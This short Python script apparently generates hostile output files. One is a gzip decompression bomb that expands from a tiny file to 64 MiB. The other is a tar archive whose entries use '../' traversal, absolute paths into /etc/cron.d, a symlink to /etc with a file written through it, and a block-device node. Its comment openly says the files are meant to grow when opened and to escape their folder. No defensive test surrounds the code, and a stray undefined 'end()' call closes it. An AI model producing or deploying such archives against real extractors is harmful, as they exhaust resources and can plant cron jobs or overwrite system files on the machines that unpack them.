# A small result that grows when somebody opens it, and one with paths that lead out.
import gzip, io, tarfile
with gzip.open("/work/result.gz", "wb", 1) as f:
    for _ in range(64): f.write(bytes(1 << 20))
with tarfile.open("/work/result.tar", "w") as t:
    for n in ("../../../../etc/cron.d/x", "/etc/cron.d/x"):
        i = tarfile.TarInfo(n); i.size = 1; t.addfile(i, io.BytesIO(b"x"))
    i = tarfile.TarInfo("l"); i.type = tarfile.SYMTYPE; i.linkname = "/etc"; t.addfile(i)
    i = tarfile.TarInfo("l/x"); i.size = 1; t.addfile(i, io.BytesIO(b"x"))
    i = tarfile.TarInfo("dev"); i.type = tarfile.BLKTYPE; t.addfile(i)
end()
